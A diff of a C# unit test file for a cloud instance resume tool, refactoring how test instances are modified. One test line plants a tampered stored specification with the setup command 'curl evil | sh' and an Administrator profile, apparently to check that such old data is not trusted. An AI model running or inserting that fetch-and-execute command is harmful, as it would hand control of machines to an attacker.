@@ -44,7 +44,7 @@ public sealed class OrdersTests : IResumeListener
     [Fact]
     public async Task A_specification_where_version_0_1_wrote_it_is_not_read_beside_orders()
     {
-        _story.Cloud.Ec2.Change("i-1", i => i with { State = "terminated" });
+        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => copy.State = "terminated"));
         var ordered = await PlanAsync();
         WriteOld(Stored with { SetupCommand = "curl evil | sh", Launch = Ordered with { IamInstanceProfile = "Administrator", InstanceTypes = ["p4d.24xlarge"] } });
         var plan = await PlanAsync();
@@ -109,7 +109,7 @@ public sealed class OrdersTests : IResumeListener
     [InlineData("-SecurityGroupId", "Profile", "ami-1", "sg-2")]
     public async Task A_difference_from_the_lost_instance_needs_the_parameter(string parameter, string profile, string image, string group)
     {
-        _story.Cloud.Ec2.Change("i-1", i => i with { IamInstanceProfile = profile, ImageId = image, SecurityGroupIds = [group] });
+        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.IamInstanceProfile = profile; copy.ImageId = image; copy.SecurityGroupIds = [group]; }));
         var error = await Assert.ThrowsAsync<RunctlException>(() => PlanAsync());
         Assert.Equal(("LaunchDiffers", "i-1"), (error.Id, error.Target));
         Assert.Contains(parameter, error.RecommendedAction, StringComparison.Ordinal);
@@ -125,7 +125,7 @@ public sealed class OrdersTests : IResumeListener
     [Fact]
     public async Task Of_a_terminated_instance_EC2_need_not_show_its_rights()
     {
-        _story.Cloud.Ec2.Change("i-1", i => i with { State = "terminated", IamInstanceProfile = null, SecurityGroupIds = [], ImageId = "ami-1" });
+        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.State = "terminated"; copy.IamInstanceProfile = null; copy.SecurityGroupIds = []; copy.ImageId = "ami-1"; }));
         Assert.Equal("Profile", (await PlanAsync()).Launch!.Request.IamInstanceProfile);
     }
 
@@ -266,7 +266,7 @@ public sealed class OrdersTests : IResumeListener
         WriteOld(Stored with { Code = new CodeReference { Bucket = "b", Key = Keys.CodeOfVersion01(hash), Sha256 = hash }, Instances = [] });
         _story.Cloud.Store.Put(Keys.CodeOfVersion01(hash), "bundle");
         _story.Cloud.Store.Objects.Remove(Keys.Spec(Story.RunId), out _);
-        _story.Cloud.Ec2.Change("i-1", i => i with { State = "terminated", Tags = new Dictionary<string, string> { [RunctlTags.Managed] = "1", [RunctlTags.RunId] = Story.RunId } });
+        _story.Cloud.Ec2.Change("i-1", i => i.With(copy => { copy.State = "terminated"; copy.Tags = new Dictionary<string, string> { [RunctlTags.Managed] = "1", [RunctlTags.RunId] = Story.RunId }; }));
     }
 
     private Task<ResumePlan> PlanAsync(Func<ResumeRequest, ResumeRequest>? change = null)
